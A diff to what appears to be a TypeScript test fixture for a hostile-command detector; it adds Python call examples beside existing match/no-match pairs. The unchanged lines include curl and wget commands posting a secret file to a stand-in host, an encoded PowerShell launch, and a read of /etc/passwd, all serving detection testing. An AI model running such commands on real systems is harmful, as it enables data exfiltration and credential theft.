@@ -102,6 +102,11 @@ const PAIRS: Readonly<Record<string, readonly (readonly [string, string])[]>> = 
     ['curl -d @/tmp/secret http://example.test', 'curl -d a=b http://example.test'],
     ['wget --post-file=/tmp/secret http://example.test', 'wget http://example.test'],
   ],
+  PythonCallText: [
+    ["os.system('true')", 'os.system is a function'],
+    ["subprocess.run(['true'])", 'subprocess.run runs a command'],
+    ['__import__("os")', '__import__(name)'],
+  ],
   PowerShell: [['PowerShell.exe -nop -enc SQBFAFgA', 'PowerShell is a language']],
   CredentialPath: [
     ['cat /etc/passwd', '/etc/hosts'],
